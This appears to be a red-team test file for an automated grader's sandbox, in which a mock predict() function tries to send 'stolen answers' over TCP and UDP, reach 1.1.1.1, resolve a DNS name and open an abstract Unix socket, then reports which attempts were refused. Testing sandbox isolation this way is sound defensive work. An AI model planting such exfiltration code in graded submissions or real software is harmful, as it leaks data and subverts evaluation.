"""Red team D5/G9: reach the network: TCP and UDP to services on the grader's machine (the test
listens on __TCP_PORT__ and __UDP_PORT__ of localhost, and anything arriving there proves a leak),
TCP to the outside, a DNS lookup, an abstract Unix socket. It raises with each attempt's outcome.
Expected at the strong tier: every attempt refused, nothing heard."""
import json
import socket

import numpy as np


def _attempt(action):
    try:
        action()
        return "ok"
    except OSError as exc:
        return type(exc).__name__


def _tcp(host, port):
    with socket.create_connection((host, port), timeout=0.5) as s:
        s.sendall(b"stolen answers")


def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"stolen answers", ("127.0.0.1", __UDP_PORT__))


def _abstract_unix():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect("\0dlgrade-redteam")


def predict(X, w, b):
    outcome = {
        "tcp localhost": _attempt(lambda: _tcp("127.0.0.1", __TCP_PORT__)),
        "udp localhost": _attempt(_udp),
        "tcp outside": _attempt(lambda: _tcp("1.1.1.1", 80)),
        "dns": _attempt(lambda: socket.getaddrinfo("example.com", 80)),
        "abstract unix": _attempt(_abstract_unix),
    }
    raise RuntimeError("NET " + json.dumps(outcome))
